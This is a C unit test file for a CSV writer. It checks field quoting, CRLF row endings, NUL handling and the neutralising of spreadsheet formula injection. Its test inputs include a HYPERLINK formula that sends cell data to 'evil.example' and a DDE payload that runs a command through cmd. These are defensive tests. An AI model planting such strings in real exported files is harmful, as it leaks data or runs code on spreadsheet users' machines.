/* csv_test.c: lists as comma-separated values. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "lib/util/csv.h"
#include "tests/unit/csv_read.h"

static const char *const formulas[] = { "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=cmd|' /C calc'!A0",
	"\xef\xbc\x9d" "1+1", "\xef\xbc\x8b" "1", "\xef\xbc\x8d" "1", "\xef\xbc\xa0" "1" };
enum { FORMULAS = sizeof formulas / sizeof *formulas };

static void
every_field_is_quoted_and_rows_end_in_crlf(void **state UNUSED)
{
	CLEANUP_BUF struct buf out = BUF_INIT;
	struct csv c = { .out = &out };

	csv_row(&c, (const char *const[]){ "A", "B c" }, 2);
	csv_text(&c, "a \"quoted\" one");
	csv_text(&c, "two\r\nlines, and a comma");
	csv_end(&c);
	csv_text(&c, NULL);
	csv_number(&c, INT64_C(9007199254740993));
	csv_number(&c, -1);
	csv_time(&c, INT64_C(1763690400000));
	csv_time(&c, 0);
	csv_flag(&c, true);
	csv_flag(&c, false);
	csv_end(&c);
	assert_string_equal(out.p, "\"A\",\"B c\"\r\n"
	    "\"a \"\"quoted\"\" one\",\"two\r\nlines, and a comma\"\r\n"
	    "\"\",\"9007199254740993\",\"\",\"2025-11-21T02:00:00Z\",\"\",\"yes\",\"no\"\r\n");
}

static void
a_number_alone_begins_a_row(void **state UNUSED)
{
	CLEANUP_BUF struct buf out = BUF_INIT;
	struct csv c = { .out = &out };

	csv_number(&c, 7);
	csv_end(&c);
	csv_end(&c);
	assert_string_equal(out.p, "\"7\"\r\n\r\n");
}

static void
T49_no_formula_reaches_a_spreadsheet(void **state UNUSED)
{
	CLEANUP_ARENA struct arena *a = arena_new();
	CLEANUP_BUF struct buf out = BUF_INIT;
	struct csv c = { .out = &out };
	struct csv_read *r;

	for (size_t i = 0; i < FORMULAS; i++)
		csv_text(&c, formulas[i]);
	csv_end(&c);
	r = csv_read(a, &out);
	assert_int_equal(r->rows, 1);
	assert_int_equal(r->columns[0], FORMULAS);
	for (size_t i = 0; i < FORMULAS; i++) {
		assert_int_equal(r->cells[0][i][0], '\'');
		assert_string_equal(r->cells[0][i] + 1, formulas[i]);
	}
}

static void
T49_a_nul_is_left_out_and_hides_no_formula(void **state UNUSED)
{
	CLEANUP_BUF struct buf out = BUF_INIT;
	struct csv c = { .out = &out };

	csv_field(&c, "\0\0=1+1", 6);
	csv_field(&c, "a\0b\0", 4);
	csv_field(&c, "\0", 1);
	csv_end(&c);
	assert_string_equal(out.p, "\"'=1+1\",\"ab\",\"\"\r\n");
}

static void
what_is_no_formula_stays_as_it_is(void **state UNUSED)
{
	static const char *const plain[] = { "a=b", " =1", "'=1", "1-2", "b101", "\xef\xbc",
		"\xef\xbc\x9e", "\xc3\xa9t\xc3\xa9" };
	CLEANUP_ARENA struct arena *a = arena_new();
	CLEANUP_BUF struct buf out = BUF_INIT;
	struct csv c = { .out = &out };
	struct csv_read *r;

	for (size_t i = 0; i < sizeof plain / sizeof *plain; i++)
		csv_text(&c, plain[i]);
	csv_end(&c);
	r = csv_read(a, &out);
	for (size_t i = 0; i < sizeof plain / sizeof *plain; i++)
		assert_string_equal(r->cells[0][i], plain[i]);
}

/* The control: quoting alone, as RFC 4180 asks, lets each of them through. */
static void
T49_quoting_alone_would_let_each_formula_through(void **state UNUSED)
{
	CLEANUP_ARENA struct arena *a = arena_new();
	size_t through = 0, full_width = 4;

	for (size_t i = 0; i < FORMULAS; i++) {
		CLEANUP_BUF struct buf out = BUF_INIT;

		buf_char(&out, '"');
		for (const char *p = formulas[i]; *p != '\0'; p++)
			buf_printf(&out, *p == '"' ? "\"%c" : "%c", *p);
		buf_text(&out, "\"\r\n");
		through += csv_read_computes(csv_read(a, &out)->cells[0][0]);
	}
	assert_int_equal(through, FORMULAS - full_width);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(every_field_is_quoted_and_rows_end_in_crlf),
		cmocka_unit_test(a_number_alone_begins_a_row),
		cmocka_unit_test(T49_no_formula_reaches_a_spreadsheet),
		cmocka_unit_test(T49_a_nul_is_left_out_and_hides_no_formula),
		cmocka_unit_test(what_is_no_formula_stays_as_it_is),
		cmocka_unit_test(T49_quoting_alone_would_let_each_formula_through),
	};

	return cmocka_run_group_tests_name("csv", tests, NULL, NULL);
}
